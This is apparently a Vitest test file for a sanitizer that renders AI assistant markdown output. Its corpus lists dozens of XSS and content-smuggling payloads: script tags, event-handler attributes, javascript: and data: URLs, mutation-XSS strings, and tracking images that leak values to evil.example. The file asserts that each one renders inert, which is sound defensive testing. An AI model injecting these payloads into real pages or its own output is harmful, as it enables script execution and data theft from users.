// @vitest-environment jsdom
// The sanitizer runs in jsdom: happy-dom 21's NodeIterator skips element children, so DOMPurify
// cannot be exercised there (it would pass nothing through its hooks).
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../src/markdown';
import { tokenize } from '../src/highlight';

// Assistant outputs that try to run script, load remote content or smuggle links.
const CORPUS: string[] = [
  '<script>alert(1)</script>',
  'hi <script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/track.png?c=secret">',
  '![alt](https://evil.example/pixel.gif?leak=abc)',
  '![x](javascript:alert(1))',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](  javascript:alert(1))',
  '[click](java&#115;cript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '<a href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)><circle r=5></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x">',
  '<form action="https://evil.example"><button>go</button></form>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '[a](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  '<https://ok.example/auto>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '`<img src=x onerror=alert(1)>` and\n```html\n<script>alert(1)</script>\n```',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
  '<img srcset="https://evil.example/a.png 1x">',
  '<p>[x](https://ok.example)</p><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="data:text/html,<script>alert(1)</script>">d</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
];

function container(md: string): HTMLElement {
  const div = document.createElement('div');
  div.appendChild(renderMarkdown(md, document));
  return div;
}

describe('sanitizer corpus', () => {
  for (const input of CORPUS) {
    it(`renders inert: ${JSON.stringify(input).slice(0, 70)}`, () => {
      const el = container(input);
      expect(el.querySelectorAll('script,iframe,object,embed,svg,math,form,style,link,meta,base,video,audio').length).toBe(0);
      for (const n of Array.from(el.querySelectorAll('*'))) {
        for (const a of Array.from(n.attributes)) {
          expect(a.name.toLowerCase().startsWith('on'), `${n.nodeName} has ${a.name}`).toBe(false);
          expect(a.name.toLowerCase()).not.toBe('style');
          expect(a.name.toLowerCase()).not.toBe('srcset');
          expect(a.name.toLowerCase()).not.toBe('background');
        }
      }
      for (const a of Array.from(el.querySelectorAll('[href]'))) {
        expect(a.getAttribute('href')!.trim()).toMatch(/^(https?:|mailto:)/i);
      }
      for (const n of Array.from(el.querySelectorAll('[src]'))) {
        // only inline raster data images may carry a src
        expect(n.getAttribute('src')).toMatch(/^data:image\/(png|jpe?g|gif|webp);/i);
      }
    });
  }

  it('opens safe links in a new tab without opener or referrer', () => {
    const a = container('[ok](https://ok.example/x)').querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://ok.example/x');
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('replaces remote images with a click-to-open placeholder', () => {
    const el = container('![cat](https://img.example/cat.png)');
    expect(el.querySelector('img')).toBeNull();
    const b = el.querySelector('button.remote-img') as HTMLButtonElement;
    expect(b).not.toBeNull();
    expect(b.dataset.remoteSrc).toBe('https://img.example/cat.png');
    expect(b.textContent).toContain('img.example');
  });

  it('shows raw HTML as text', () => {
    const el = container('<b>bold</b> <script>x()</script>');
    expect(el.querySelector('b')).toBeNull();
    expect(el.textContent).toContain('<b>bold</b>');
    expect(el.textContent).toContain('<script>x()</script>');
  });

  it('keeps markdown formatting, code blocks get a copy button and highlighting', () => {
    const el = container('# T\n\n**b** _i_ `c`\n\n```js\nconst x = "<b>" // hi\n```\n\n- a\n- b');
    expect(el.querySelector('h1')!.textContent).toBe('T');
    expect(el.querySelector('strong')!.textContent).toBe('b');
    expect(el.querySelectorAll('li').length).toBe(2);
    expect(el.querySelector('.codeblock button.copy-code')).not.toBeNull();
    const code = el.querySelector('pre code')!;
    expect(code.textContent).toBe('const x = "<b>" // hi\n');
    expect(code.querySelector('.tok-kw')!.textContent).toBe('const');
    expect(code.querySelector('.tok-str')!.textContent).toBe('"<b>"');
    expect(code.querySelector('b')).toBeNull();
  });
});

describe('highlighter', () => {
  it('round-trips the source text exactly', () => {
    const src = 'def f(x):  # c\n    return "a\\"b" + 0x1F if x else None\n';
    expect(tokenize(src, 'python').map((t) => t.t).join('')).toBe(src);
    expect(tokenize(src, 'python').find((t) => t.k === 'com')!.t).toBe('# c');
  });
  it('does not treat # as a comment in C-like code', () => {
    expect(tokenize('#include <x>', 'c').some((t) => t.k === 'com')).toBe(false);
  });
});
